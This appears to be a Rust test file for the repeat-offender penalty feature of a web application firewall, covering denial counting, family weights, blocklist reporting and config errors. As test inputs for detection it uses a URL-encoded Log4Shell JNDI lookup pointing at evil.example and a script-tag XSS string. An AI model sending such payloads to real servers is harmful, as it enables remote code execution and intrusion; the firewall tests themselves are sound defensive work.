//! Repeat offenders: when a penalty begins and ends, what counts towards it, and who is told.

use std::net::IpAddr;

use backstop::penalty::{Noted, Settings};
use backstop::verdict::{Action, Family};

use crate::fake::{Fake, read, read_clean};
use crate::proxy::Proxy;

fn settings(json: &str) -> Settings {
    read_clean(json, Settings::read)
}

fn address(n: u32) -> IpAddr {
    IpAddr::from(n.to_be_bytes())
}

/// Notes a denial of a client, and says whether a penalty begins with it.
fn note(settings: &Settings, fake: &Fake, client: u32, family: Family) -> Noted {
    settings.note(address(client), family, fake, fake).unwrap()
}

fn penalised(settings: &Settings, fake: &Fake, client: u32) -> Option<Family> {
    settings.check(address(client), fake, fake).unwrap()
}

const THREE: &str = r#"{"denials": 3, "window": "10s", "for": "1m"}"#;

#[test]
fn it_begins_with_the_last_of_so_many_denials_in_a_window_and_ends_in_time() {
    let (settings, fake) = (settings(THREE), Fake::new());
    assert_eq!(penalised(&settings, &fake, 1), None);
    for expected in [Noted::Counted, Noted::Counted, Noted::Begun(3)] {
        assert_eq!(penalised(&settings, &fake, 1), None);
        assert_eq!(note(&settings, &fake, 1, Family::Xss), expected);
        fake.advance_ms(4_999);
    }
    assert_eq!(penalised(&settings, &fake, 1), Some(Family::Xss));
    assert_eq!(penalised(&settings, &fake, 2), None, "somebody else");
    assert_eq!(note(&settings, &fake, 1, Family::Sqli), Noted::Counted, "counts no more");
    fake.advance_ms(55_000);
    assert_eq!(penalised(&settings, &fake, 1), Some(Family::Xss));
    fake.advance_ms(1);
    assert_eq!(penalised(&settings, &fake, 1), None);
    assert_eq!(note(&settings, &fake, 1, Family::Sqli), Noted::Counted, "and all begins anew");
}

#[test]
fn what_lies_before_the_window_is_forgotten() {
    let (settings, fake) = (settings(THREE), Fake::new());
    for _ in 0..100 {
        assert_eq!(note(&settings, &fake, 1, Family::Xss), Noted::Counted);
        fake.advance_ms(5_000);
    }
    assert_eq!(penalised(&settings, &fake, 1), None);
}

#[test]
fn families_weigh_as_configured() {
    let settings = settings(
        r#"{"denials": 4, "window": "10s", "for": "1m", "weights": {"sqli": 3, "bot-scanner": 0, "xxe": 10000}}"#,
    );
    let fake = Fake::new();
    for _ in 0..10 {
        assert_eq!(note(&settings, &fake, 1, Family::BotScanner), Noted::Counted);
    }
    assert_eq!(note(&settings, &fake, 1, Family::Sqli), Noted::Counted);
    assert_eq!(note(&settings, &fake, 1, Family::Xss), Noted::Begun(4));
    assert_eq!(note(&settings, &fake, 2, Family::Xxe), Noted::Begun(10_000));
    assert_eq!(penalised(&settings, &fake, 2), Some(Family::Xxe));
}

#[test]
fn every_family_comes_back_as_it_went_in() {
    let (settings, fake) = (settings(r#"{"denials": 1, "window": "1s", "for": "24h"}"#), Fake::new());
    for (n, family) in (0..).zip(Family::ALL) {
        assert_eq!(note(&settings, &fake, n, *family), Noted::Begun(1));
        assert_eq!(penalised(&settings, &fake, n), Some(*family));
    }
}

#[test]
fn races_are_tried_again_and_failures_are_errors() {
    let (settings, fake) = (settings(THREE), Fake::new());
    fake.rivals.set(15);
    assert_eq!(note(&settings, &fake, 1, Family::Xss), Noted::Counted);
    fake.rivals.set(16);
    let lost = settings.note(address(1), Family::Xss, &fake, &fake);
    assert!(lost.is_err_and(backstop::slots::is_race_lost));
    fake.fail("get-shared-data");
    assert!(settings.check(address(1), &fake, &fake).is_err());
}

#[test]
fn no_crowd_makes_memory_grow_or_sets_an_offender_free() {
    let (settings, fake) = (settings(r#"{"denials": 2, "window": "1m", "for": "1h"}"#), Fake::new());
    assert_eq!(note(&settings, &fake, 0, Family::Xss), Noted::Counted);
    assert_eq!(note(&settings, &fake, 0, Family::Xss), Noted::Begun(2));
    let (mut begun, mut unnoted) = (0_u64, 0_u64);
    for n in 1..50_000 {
        for _ in 0..2 {
            match note(&settings, &fake, n, Family::Xss) {
                Noted::Begun(_) => begun += 1,
                Noted::NoPlace => unnoted += 1,
                Noted::Counted => {}
            }
        }
    }
    assert!(fake.shared.borrow().len() as u64 <= backstop::slots::SLOTS);
    assert!(fake.shared.borrow().keys().all(|key| key.starts_with("penalty/")));
    assert!(begun > backstop::slots::SLOTS * 9 / 10 && begun < backstop::slots::SLOTS, "{begun}");
    assert_eq!(begun + unnoted / 2, 49_999);
    assert!(penalised(&settings, &fake, 0).is_some());
    fake.advance_ms(3_600_000);
    assert_eq!(note(&settings, &fake, 60_000, Family::Xss), Noted::Counted);
    assert_eq!(note(&settings, &fake, 60_000, Family::Xss), Noted::Begun(2), "places are free again");
}

#[test]
fn a_changed_section_lets_everybody_go() {
    let (before, fake) = (settings(r#"{"denials": 1, "window": "10s", "for": "1m"}"#), Fake::new());
    assert_eq!(note(&before, &fake, 1, Family::Xss), Noted::Begun(1));
    let same = settings(r#"{"denials": 1, "window": "10000ms", "for": "60s", "weights": {"xss": 5}}"#);
    assert_eq!(penalised(&same, &fake, 1), Some(Family::Xss));
    let after = settings(r#"{"denials": 1, "window": "10s", "for": "2m"}"#);
    assert_eq!(penalised(&after, &fake, 1), None);
}

/// Status and details of the answer to a request from `client`, empty if it passes.
fn get(proxy: &Proxy, path: &str, client: &str) -> String {
    match proxy.get(path, &[("x-forwarded-for", client)]) {
        Action::Deny(reply) => format!("{} {}", reply.status, reply.details),
        _ => String::new(),
    }
}

const ATTACK: &str = "/?q=%24%7Bjndi:ldap://evil.example/a%7D";
const CONFIG: &str = "
client: {allow: [192.0.2.0/24], from: [{forwardedFor: {trustedHops: 1}}, peer]}
exempt: [{exact: /healthz}]
limits: [{name: all, key: [], rate: 1/h, burst: 12}]
penalty:
  denials: 2
  window: 1m
  for: 10m
  report: {cluster: blocklist, authority: blocklist.example, path: /v1/offenders, timeout: 200ms}
";

#[test]
fn an_offender_is_refused_at_the_head_and_reported_once() {
    let proxy = Proxy::new(CONFIG);
    for _ in 0..2 {
        assert!(get(&proxy, ATTACK, "2001:db8::1:2:3:4").starts_with("403 backstop{log4shell:"));
    }
    for client in ["2001:db8::1", "2001:db8::ffff:0:0:1", "192.0.2.1, 2001:db8::5"] {
        for path in ["/", ATTACK, "/healthz/", "/healthz/../"] {
            assert_eq!(get(&proxy, path, client), "403 backstop{penalty:log4shell}");
        }
    }
    assert_eq!(get(&proxy, "/healthz", "2001:db8::1"), "", "exempt paths stay so");
    assert_eq!(get(&proxy, "/", "2001:db8:0:1::1"), "", "another prefix is another client");
    assert_eq!(
        *proxy.world.posted.borrow(),
        [format!(
            "blocklist blocklist.example/v1/offenders 200 {}",
            r#"{"client":"2001:db8::/64","count":2,"enforced":true,"family":"log4shell","rule":"log4shell-jndi","until":1790000600}"#
        )]
    );
    assert_eq!(proxy.counted("backstop_penalties_begun"), 1);
    assert_eq!(proxy.counted("backstop_requests_penalised"), 12);
    assert_eq!(proxy.counted("backstop_requests_denied"), 14);
    // Three requests took a token, of which two were attacks; the penalised ones took none.
    let left = (0..20).filter(|_| get(&proxy, "/", "203.0.113.1").is_empty()).count();
    assert_eq!(left, 12 - 3);
    proxy.world.advance_ms(600_000);
    assert_eq!(get(&proxy, "/", "2001:db8::1"), "429 backstop{limit:all}");
}

#[test]
fn only_denials_by_rules_count_and_allowed_clients_never() {
    let proxy = Proxy::new(CONFIG);
    for _ in 0..20 {
        let _ = get(&proxy, "/", "203.0.113.1");
        assert_eq!(get(&proxy, ATTACK, "192.0.2.1"), "", "an allowed client is not inspected");
    }
    assert_eq!(get(&proxy, "/", "203.0.113.1"), "429 backstop{limit:all}");
    assert_eq!((proxy.counted("backstop_penalties_begun"), proxy.counted("backstop_requests_penalised")), (0, 0));
}

#[test]
fn detect_counts_and_reports_and_lets_pass() {
    for (mode, section) in [("mode: detect", ""), ("mode: block", "  mode: detect\n")] {
        let proxy = Proxy::new(&format!("{mode}\n{CONFIG}{section}"));
        for _ in 0..2 {
            let _ = get(&proxy, ATTACK, "203.0.113.1");
        }
        assert_eq!(get(&proxy, "/", "203.0.113.1"), "", "{mode} {section}");
        assert_eq!(proxy.counted("backstop_penalties_begun"), 1);
        assert_eq!(proxy.counted("backstop_requests_penalised"), 1);
        assert!(proxy.world.posted.borrow()[0].contains("\"enforced\":false"));
        assert_eq!(proxy.world.notes.borrow().get("verdict").map(Vec::as_slice), Some(&b"detected"[..]));
    }
}

#[test]
fn one_request_counts_once_however_often_it_is_found_bad() {
    let proxy = Proxy::new(&format!("mode: detect\n{CONFIG}"));
    let client = [("x-forwarded-for", "203.0.113.1")];
    let (mut transaction, action) = proxy.begin("POST", ATTACK, &client, false);
    assert_eq!(action, Action::Continue);
    proxy.world.body.replace(b"<script>alert(1)</script>".to_vec());
    assert_eq!(transaction.on_request_body(25, true, &proxy.world), Action::Continue);
    assert!(proxy.counted("backstop_findings_log4shell") > 0);
    assert_eq!(proxy.counted("backstop_penalties_begun"), 0);
    // A denial for the body counts like one for the head.
    let (mut transaction, action) = proxy.begin("POST", "/", &client, false);
    assert_eq!(action, Action::Continue);
    assert_eq!(transaction.on_request_body(25, true, &proxy.world), Action::Continue);
    assert_eq!(proxy.counted("backstop_penalties_begun"), 1);
}

#[test]
fn a_report_that_fails_changes_nothing_but_a_counter() {
    let (sound, broken) = (Proxy::new(CONFIG), Proxy::new(CONFIG));
    broken.world.fail("http-call");
    for path in [ATTACK, ATTACK, "/"] {
        assert_eq!(get(&sound, path, "203.0.113.1"), get(&broken, path, "203.0.113.1"));
    }
    assert_eq!((sound.counted("backstop_reports_failed"), broken.counted("backstop_reports_failed")), (0, 1));
    assert_eq!(broken.counted("backstop_failures"), 0);
}

#[test]
fn a_denial_stands_when_it_cannot_be_noted() {
    let proxy = Proxy::new(&format!("onFailure: allow\n{CONFIG}").replace("limits:", "#"));
    proxy.world.fail("set-shared-data");
    assert!(get(&proxy, ATTACK, "203.0.113.1").starts_with("403 backstop{log4shell:"));
    assert_eq!(proxy.counted("backstop_failures"), 1);
}

#[test]
fn mistakes_are_named() {
    let section = |change: &str| {
        let all = [("denials", "5"), ("window", "\"60s\""), ("for", "\"10m\"")];
        let key = change.split(':').next().unwrap().trim_matches(|c| c == '"' || c == '-');
        let rest = all.iter().filter(|(k, _)| *k != key).map(|(k, v)| format!("\"{k}\": {v}"));
        let changed = (!change.starts_with('-')).then(|| change.to_owned());
        format!("{{{}}}", rest.chain(changed).collect::<Vec<_>>().join(", "))
    };
    let report = r#""report": {"cluster": "c", "authority": "a", "path": "/p", "timeout": "1s"}"#;
    settings(&section(report));
    for (change, expected) in [
        ("-denials".to_owned(), "error[missing-field] denials: required, but absent"),
        ("-window".to_owned(), "error[missing-field] window: required, but absent"),
        ("-for".to_owned(), "error[missing-field] for: required, but absent"),
        (r#""denials": 0"#.to_owned(), "error[out-of-range] denials: found 0, expected a whole number from 1 to 10000"),
        (r#""window": 60"#.to_owned(), "error[bad-duration] window: found a number, expected a duration such as 60s"),
        (
            r#""window": "60""#.to_owned(),
            "error[bad-duration] window: found \"60\", expected a whole number of ms, s, m or h, such as 60s",
        ),
        (
            r#""window": "1.5m""#.to_owned(),
            "error[bad-duration] window: found \"1.5m\", expected a whole number of ms, s, m or h, such as 60s",
        ),
        (
            r#""window": "s""#.to_owned(),
            "error[bad-duration] window: found \"s\", expected a whole number of ms, s, m or h, such as 60s",
        ),
        (
            r#""window": "99999999999999999999999h""#.to_owned(),
            "error[bad-duration] window: found \"99999999999999999999999h\", expected a whole number of ms, s, m or h, such as 60s",
        ),
        (r#""for": "25h""#.to_owned(), "error[out-of-range] for: found \"25h\", expected a duration from 1s to 24h"),
        (
            r#""for": "999ms""#.to_owned(),
            "error[out-of-range] for: found \"999ms\", expected a duration from 1s to 24h",
        ),
        (
            r#""weights": {"sqlo": 2}"#.to_owned(),
            "error[unknown-value] weights.sqlo: found \"sqlo\", accepted: log4shell, xxe, header-injection, sqli, nosql, xss, \
             template, php, java, node, ldap-injection, command-injection, rfi, ssrf, path-traversal, bot-scanner; did you \
             mean \"sqli\"?",
        ),
        (
            r#""weights": {"sqli": -1}"#.to_owned(),
            "error[out-of-range] weights.sqli: found -1, expected a whole number from 0 to 10000",
        ),
        (r#""mode": "off""#.to_owned(), "error[unknown-value] mode: found \"off\", accepted: block, detect"),
        (report.replace(r#""cluster": "c", "#, ""), "error[missing-field] report.cluster: required, but absent"),
        (
            report.replace("\"a\"", "\"a b\""),
            "error[unknown-value] report.authority: found \"a b\", expected text without spaces",
        ),
        (
            report.replace("/p", "p"),
            "error[unknown-value] report.path: found \"p\", expected text without spaces that begins with /",
        ),
        (
            report.replace("1s", "11s"),
            "error[out-of-range] report.timeout: found \"11s\", expected a duration from 1ms to 10s",
        ),
        (
            r#""denial": 5"#.to_owned(),
            "error[unknown-field] denial: no such field; did you mean \"denials\"? known: denials, window, for, weights, mode, report",
        ),
    ] {
        let (settings, diagnostics) = read(&section(&change), Settings::read);
        assert_eq!(diagnostics, [expected], "{change}");
        assert_eq!(settings.is_none(), !expected.starts_with("error[unknown-field]"), "{change}");
    }
}
